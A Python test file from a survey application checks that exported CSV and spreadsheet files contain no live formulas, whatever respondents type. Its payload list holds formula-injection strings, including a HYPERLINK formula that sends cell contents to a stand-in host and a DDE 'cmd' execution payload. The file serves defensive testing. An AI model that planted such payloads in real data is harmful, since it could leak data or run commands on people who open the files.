"""Attack 21: whatever people write, no file that comes out holds a formula."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from remit.core.formulas import computes, guarded, unguarded
from remit.instrument.items import Instrument, Item, Page
from remit.study.tablefile import read_rows, rows_to_csv
from site_made import Browser, invite_all, run_site

PAYLOADS = (
    '=HYPERLINK("https://elsewhere.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    "'=1+1",
    "''=1+1",
)

FORMULAS = Instrument(
    "=1+1",
    (
        Page(
            "first",
            "+2+2",
            (
                Item("happy", "yes_no", "=3+3 Are you happy?", required=True),
                Item("beds", "whole", "-4+4"),
            ),
        ),
        Page("third", "@Last", (Item("wish", "text", "=5+5"),)),
    ),
    introduction="Welcome.",
)


def live_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row if computes(cell)]


def test_pulled_answers_hold_no_formula_and_come_back_as_they_were_written(tmp_path: Path) -> None:
    site = run_site(tmp_path, FORMULAS, posts=len(PAYLOADS))
    written = set()
    for token, payload in zip(invite_all().values(), PAYLOADS, strict=True):
        person = Browser().open_link(token).get("/page/first").send({"happy": "yes", "beds": "12"})
        person.send({"wish": f"x{payload}" if payload.startswith("\t") else payload}).send({}, "/send")
        written.add(" ".join(payload.split()))

    from remit.site.pulling import pull

    pull(tmp_path / "keyholder.key")
    path = site.study / "responses.csv"
    text = path.read_text(encoding="utf-8")
    assert live_cells(text) == []
    assert text.count("'=") + text.count("'+") + text.count("'-") + text.count("'@") >= 5
    back = read_rows(path, "responses.csv")["wish"].to_list()
    assert '=HYPERLINK("https://elsewhere.example/?"&A1,"x")' in back
    assert "'=1+1" in back
    assert "''=1+1" in back


def test_what_a_build_writes_holds_no_formula(tmp_path: Path) -> None:
    from remit.cli import main
    from remit.study.questionnaire import write_questionnaire
    from site_made import write_study

    study = write_study(tmp_path / "study", FORMULAS)
    (study / "questionnaire.yaml").write_text(write_questionnaire(FORMULAS), encoding="utf-8")
    rows = [f'{n},{"yes" if n % 3 else "no"},{n % 7},"\'=HYPERLINK(1)"' for n in range(60)]
    (study / "responses.csv").write_text("\n".join(["id,happy,beds,wish", *rows, ""]), encoding="utf-8")
    assert main(["build", str(study), "--out", str(tmp_path / "out")]) == 0
    # Open data holds what the study's authors wrote, to the byte, for programs (docs/reference/outputs.md);
    # what people answered freely is in none of it, and people open the workbook.
    everything = b"".join(path.read_bytes() for path in (tmp_path / "out").rglob("*") if path.is_file())
    assert b"HYPERLINK" not in everything
    books = list((tmp_path / "out").rglob("*.xlsx"))
    assert books
    for path in books:
        with zipfile.ZipFile(path) as packed:
            for name in packed.namelist():
                if "worksheets/" in name:
                    assert b"<f" not in packed.read(name).replace(b"<filterColumn", b""), (path.name, name)


@given(st.text(st.sampled_from("=+-@' \t\r\n1a.＝"), max_size=6))
def test_every_text_is_made_plain_and_read_back(text: str) -> None:
    assert not computes(guarded(text))
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("number", ["-5", "+5", "-0.25", "-1e-05", "-,5", "12", ".n", ""])
def test_numbers_stay_numbers(number: str) -> None:
    assert guarded(number) == number


def test_rows_that_are_written_and_read_are_the_same_rows(tmp_path: Path) -> None:
    import polars as pl

    rows = pl.DataFrame({"id": [str(n) for n in range(len(PAYLOADS))], "wish": list(PAYLOADS)})
    (tmp_path / "rows.csv").write_bytes(rows_to_csv(rows))
    assert live_cells((tmp_path / "rows.csv").read_text(encoding="utf-8")) == []
    assert read_rows(tmp_path / "rows.csv", "rows.csv").equals(rows)
